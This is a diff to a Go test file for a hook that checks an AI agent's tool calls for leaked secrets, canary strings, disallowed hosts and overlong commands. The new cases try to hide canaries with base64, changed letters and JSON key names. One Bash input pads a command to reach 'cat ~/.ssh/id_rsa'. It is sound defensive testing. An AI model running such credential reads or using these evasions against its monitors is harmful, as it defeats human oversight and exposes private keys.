@@ -22,6 +22,12 @@ func TestDecide(t *testing.T) {
 		{"a secret for a server", "", `{"tool_name":"mcp__notes__add","tool_input":{"text":"ghp_q8Zt3VbN7rLx5WmK2pYc9HdJ4sGf6TuE1aRo"}}`, nil, Deny, "secret"},
 		{"the same in an own file", "", `{"tool_name":"Write","tool_input":{"content":"ghp_q8Zt3VbN7rLx5WmK2pYc9HdJ4sGf6TuE1aRo"}}`, nil, Pass, ""},
 		{"a canary", "canaries: [plain-canary-77]", `{"tool_name":"WebFetch","tool_input":{"url":"https://x.example/?q=plain-canary-77"}}`, nil, Deny, "canary"},
+		{"a canary in base64", "canaries: [plain-canary-77]", `{"tool_name":"mcp__mail__send","tool_input":{"body":"cGxhaW4tY2FuYXJ5LTc3"}}`, nil, Deny, "canary"},
+		{"a canary in other letters", "canaries: [plain-canary-77]", `{"tool_name":"mcp__mail__send","tool_input":{"body":"PLAIN CANARY 77"}}`, nil, Deny, "canary"},
+		{"a canary as a member's name", "canaries: [plain-canary-77]", `{"tool_name":"mcp__mail__send","tool_input":{"plain-canary-77":1}}`, nil, Deny, "canary"},
+		{"a part of a canary", "canaries: [plain-canary-77]", `{"tool_name":"mcp__mail__send","tool_input":{"body":"plain-canary"}}`, nil, Pass, ""},
+		{"a long command", "", `{"tool_name":"Bash","tool_input":{"command":"` + strings.Repeat(`true\n`, 60_000) + `cat ~/.ssh/id_rsa"}}`, nil, Deny, "too long to be judged"},
+		{"a long line", "", `{"tool_name":"Bash","tool_input":{"command":"echo ` + strings.Repeat("a", 70_000) + `"}}`, nil, Deny, "too long to be judged"},
 		{"a host beyond the boundary", "hosts: [github.com]", `{"tool_name":"WebFetch","tool_input":{"url":"https://stranger.net.co/a"}}`, nil, Deny, "stranger.net.co"},
 		{"a host within it", "hosts: [github.com]", `{"tool_name":"WebFetch","tool_input":{"url":"https://api.github.com/a"}}`, nil, Pass, ""},
 		{"a server that the user asks about", "tools: {mcp__mail__*: ask}", `{"tool_name":"mcp__mail__send","tool_input":{}}`, nil, Ask, "policy"},
@@ -47,12 +53,12 @@ func TestDecide(t *testing.T) {
 }
 
 func TestPolicyMistakes(t *testing.T) {
-	for text, want := range map[string]string{"host: [a]": "no such key", "credentials: maybe": "want allow, ask or deny", "hosts: a": "want a list", "- a": "want keys"} {
+	for text, want := range map[string]string{"host: [a]": "no such key", "credentials: maybe": "want allow, ask or deny", "hosts: a": "want a list", "- a": "want keys", "canaries: [12345678]": "quotation marks", `canaries: [""]`: "quotation marks", "canaries: [abc]": "less than 4 bytes", "hosts: [1]": "quotation marks"} {
 		if _, err := ParsePolicy(text); err == nil || !strings.Contains(err.Error(), want) {
 			t.Errorf("%q: %v, want %q", text, err, want)
 		}
 	}
-	for _, text := range []string{"", "[]", "{}", "{"} {
+	for _, text := range []string{"", "[]", "{}", "{", `{"tool_name":"x","tool_input":` + strings.Repeat(`{"a":`, 100) + `"b"` + strings.Repeat("}", 100) + "}", `{"tool_name":"x","tool_input":[` + strings.Repeat(`"b",`, 10_000) + `"b"]}`} {
 		if _, _, err := ReadHook(text); err == nil {
 			t.Errorf("%q is taken for a call", text)
 		}
